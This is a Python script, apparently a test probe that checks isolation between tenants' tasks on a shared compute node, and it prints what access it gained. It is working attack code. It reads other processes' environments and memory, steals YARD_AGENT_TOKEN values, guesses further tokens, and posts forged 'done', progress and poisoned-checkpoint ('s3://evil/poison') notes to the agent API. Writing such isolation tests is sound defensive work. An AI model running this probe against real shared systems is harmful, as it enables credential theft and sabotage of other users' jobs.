"""A hostile task: it tries to reach a task of another project on its node, and says what it got.

Called with a word that only the environment, the files and the output of the other task hold, and
the folders that the hostile task knows of it. It uses the standard library alone, and prints a JSON
object: what it reached, by path or process.
"""

import http.client
import json
import os
import re
import signal
import socket
import sys
import urllib.parse
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

#: What the task reached; empty if it reached nothing.
REACHED: dict[str, list[str]] = {}
#: What is usually in the folder of a replica.
NAMES = (
    *("", "work", "work/secret", "task", "task/checkpoint.json", "stdout", "stderr", "script"),
    *("stop.json", "start", "process", "exit", "gone", "bell", "user", "runner.log", "secret"),
)
#: Notes for the agent's API.
NOTES: dict[str, dict[str, Any]] = {
    "/v1/checkpoints": {"uri": "s3://evil/poison", "step": 999},
    "/v1/progress": {"permille": 999},
    "/v1/done": {},
}


def try_to(what: str, path: object, act: Callable[[], object]) -> None:
    """Note what succeeded: an act that returns False or raises OSError did not."""
    try:
        if act() is not False:
            REACHED.setdefault(what, []).append(str(path))
    except OSError:
        return


def processes() -> Iterator[Path]:
    """Return the folders in /proc of all processes but those of this replica."""
    own = "YARD_STOP_FILE=" + os.environ["YARD_STOP_FILE"]
    for path in Path("/proc").iterdir():
        if not path.name.isdecimal() or int(path.name) == os.getpid():
            continue
        try:
            if own in environment(path):
                continue
        except OSError:
            pass
        yield path


def environment(process: Path) -> str:
    """Return the environment of a process."""
    return (process / "environ").read_text(errors="replace")


def reach_process(path: Path, word: str) -> None:
    """Read, write and signal a process."""
    try_to("environment", path, lambda: word in environment(path))
    try_to("memory", path, lambda: (path / "mem").open("rb+").close())
    for name in ("fd", "cwd", "root"):
        try_to(name, path, lambda: os.listdir(path / name))  # noqa: B023
    try_to("signal", path, lambda: os.kill(int(path.name), signal.SIGCONT))


def reach_path(path: Path) -> None:
    """List, read and write a folder or a file."""
    try_to("list", path, lambda: path.is_dir() and os.listdir(path))
    try_to("read", path, lambda: path.is_file() and path.open("rb"))
    try_to("append", path, lambda: path.is_file() and path.open("ab"))
    try_to("create", path, lambda: (path / "new").touch())
    try_to("change", path, lambda: path.chmod(0o777))
    try_to("rename", path, lambda: path.exists() and path.rename(f"{path}.x"))


def reach_shared_folders(word: str) -> None:
    """Read what the other task left in the folders that all users may write to."""
    for top in ("/tmp", "/var/tmp", "/dev/shm"):
        for path in Path(top).iterdir():
            try_to("read in a shared folder", path, lambda: holds(path, word))  # noqa: B023


def holds(path: Path, word: str) -> bool:
    """Return whether a small regular file holds a word."""
    small = path.is_file() and path.stat().st_size < 1_000_000
    return small and word in path.read_text(errors="replace")


def reach_agent(folders: Iterable[str]) -> None:
    """Post notes for the other task to the agent's API, with what could be its token."""
    url = os.environ.get("YARD_AGENT_URL")
    if not url:
        return
    own = os.environ["YARD_AGENT_TOKEN"]
    tokens = ["", "0" * 64, own[:-1], own + "0", own[::-1], *(Path(each).name for each in folders)]
    for path in processes():
        try:
            found = re.search(r"YARD_AGENT_TOKEN=(\w+)", environment(path))
        except OSError:
            continue
        tokens += [] if found is None else [found[1]]
    for token in tokens:
        for name, body in NOTES.items():
            try_to("post", f"{name} {token}", lambda: post(url, name, body, token))  # noqa: B023


def post(url: str, path: str, body: dict[str, Any], token: str) -> bool:
    """Return whether the agent accepted a note."""
    address = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=5)
    if at := os.environ.get("YARD_AGENT_SOCKET"):
        connection.sock = socket.socket(socket.AF_UNIX)
        connection.sock.connect(at)
    head = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    connection.request("POST", path, json.dumps(body), head)
    return connection.getresponse().status < 300


def main(word: str, *folders: str) -> None:
    """Try all of it, and print what was reached."""
    for process in processes():
        reach_process(process, word)
    for folder in folders:
        for name in NAMES:
            reach_path(Path(folder, name))
    reach_shared_folders(word)
    reach_agent(folders)
    print(json.dumps({"uid": os.getuid(), "groups": os.getgroups(), "reached": REACHED}))


if __name__ == "__main__":
    main(*sys.argv[1:])
